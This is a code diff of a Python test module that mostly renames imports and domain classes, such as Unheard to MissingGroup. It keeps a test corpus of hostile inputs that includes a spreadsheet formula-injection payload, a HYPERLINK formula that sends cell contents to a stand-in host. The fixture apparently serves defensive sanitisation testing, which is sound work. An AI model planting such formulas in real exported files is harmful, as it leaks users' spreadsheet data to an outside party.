@@ -2,14 +2,14 @@
 
 from functools import cache
 
-from path_planner.domain.text import clean
-from path_planner.domain.vision.choosing import Priority, VoteRound
+from path_planner.domain.text_types import clean
 from path_planner.domain.vision.plan import Action, Outcome
-from path_planner.domain.vision.source import Drawing, Unheard
+from path_planner.domain.vision.sources import Drawing, MissingGroup
 from path_planner.domain.vision.theme import Cause, Disagreement, Side, Theme
 from path_planner.domain.vision.vision import AboutVision, Limits, Member, Vision
+from path_planner.domain.vision.voting import Priority, VoteRound
 from path_planner.domain.voice import Share
-from tests.evidence.visions import a_source, a_vision, a_voice, placed
+from tests.analysis.visions import a_source, a_vision, a_voice, placed
 
 CORPUS = (
     '=HYPERLINK("http://example.org?x="&A1,"press")',
@@ -84,7 +84,7 @@ def hostile() -> Vision:
             Drawing(id=f"f{one}", source=f"s{one}", words=at[one], width=10, height=10)
             for one in some
         ],
-        unheard=[Unheard(id=f"u{one}", who=line[one], why=at[one]) for one in some],
+        unheard=[MissingGroup(id=f"u{one}", who=line[one], why=at[one]) for one in some],
         themes=[
             Theme(id=f"t{one}", name=line[one][:200], statement=at[one], picture=line[one][:40])
             for one in ids
